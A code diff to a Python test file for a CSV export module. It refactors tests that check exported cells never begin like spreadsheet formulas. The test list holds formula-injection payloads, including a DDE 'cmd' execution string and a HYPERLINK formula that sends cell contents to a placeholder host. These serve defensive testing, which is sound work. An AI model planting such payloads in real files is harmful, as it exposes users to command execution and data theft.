@@ -14,20 +14,9 @@ from focus_ray.csv_tables import COLUMNS, csv_cell, csv_text, table_text
 from focus_ray.data.importers.groups import _pairs_of_csv
 
 FORMULAS = [
-    "=HYPERLINK(\"https://example.org?\"&A1).png",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "'=1+1",
-    "＝1+1",
-    "a;=1+1",
-    "a;b\t @x",
-    "one\n-two",
-]  # fmt: skip
+    *('=HYPERLINK("https://example.org?"&A1).png', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"),
+    *("\n=1+1", " =1+1", "'=1+1", "＝1+1", "a;=1+1", "a;b\t @x", "one\n-two"),
+]
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -35,8 +24,7 @@ FORMULAS = [
 def test_no_cell_of_a_table_begins_like_a_formula_however_a_spreadsheet_splits_it(name: str, delimiter: str) -> None:
     row = {"image": name, "category": name, "verdict": "normal", "error": name, "score": 0.5}
     for cells in csv.reader(io.StringIO(table_text([row]), newline=""), delimiter=delimiter):
-        for cell in cells:
-            assert not cell.strip().startswith(("=", "+", "-", "@", "＝")), cell
+        assert not [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@", "＝"))]
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -50,15 +38,10 @@ def test_every_text_is_read_back(text: str) -> None:
     assert csv_text(csv_cell(text)) == text
 
 
-@pytest.mark.parametrize("number", [-1.5, -3, 1e-9, True, None])
-def test_numbers_stay_numbers(number: Any) -> None:
-    assert csv_cell(number) is number
+@pytest.mark.parametrize("value", [-1.5, -3, 1e-9, True, None, "part-1.png", "a=b.png", "line 3/bolt_001.png", "it's"])
+def test_numbers_and_ordinary_names_are_not_changed(value: Any) -> None:
+    assert csv_cell(value) is value
     assert table_text([{"score": -1.5}], COLUMNS, header=False) == ",,,-1.5,,,,,,,,,\n"
-
-
-def test_ordinary_names_are_not_changed() -> None:
-    for name in ("part-1.png", "a=b.png", "line 3/bolt_001.png", "it's.png", "2026-01-31"):
-        assert csv_cell(name) == name
 
 
 def test_a_table_of_verdicts_serves_as_a_table_of_groups() -> None:
